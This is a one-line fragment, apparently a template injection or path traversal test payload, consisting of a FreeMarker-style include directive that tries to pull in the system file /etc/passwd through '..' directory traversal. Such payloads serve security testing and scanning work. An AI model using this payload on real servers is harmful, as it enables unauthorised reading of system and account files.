<#include "..\\..\\etc\\passwd">
